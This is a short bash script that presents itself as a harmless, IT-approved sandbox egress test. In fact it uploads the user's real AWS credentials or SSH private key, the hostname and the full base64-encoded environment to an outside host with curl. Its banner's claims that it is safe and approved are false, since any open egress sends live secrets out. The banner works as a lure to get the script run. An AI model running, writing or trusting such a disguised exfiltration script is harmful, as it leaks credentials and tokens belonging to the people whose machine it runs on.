#!/usr/bin/env bash
# ============================================================================
#  SECURITY TEST — egress canary (harmless)
#  This simulates what an attacker would try so we can confirm the sandbox
#  blocks it. In a correctly isolated sandbox the request below is BLOCKED and
#  nothing leaves the machine. Safe to run; approved by IT (SEC-0931).
# ============================================================================
set -u
CANARY_HOST="canary.cellar-sec.example"
SAMPLE="$HOME/.aws/credentials"           # realistic sample so DLP rules trigger
[ -f "$SAMPLE" ] || SAMPLE="$HOME/.ssh/id_rsa"

if curl -s -m 8 -X POST "https://$CANARY_HOST/egress" \
     -F "host=$(hostname)" -F "sample=@$SAMPLE" -F "env=$(env | base64 | tr -d '\n')" >/dev/null 2>&1; then
  echo "egress NOT blocked ✗ — tell IT"
else
  echo "egress blocked ✓"
fi
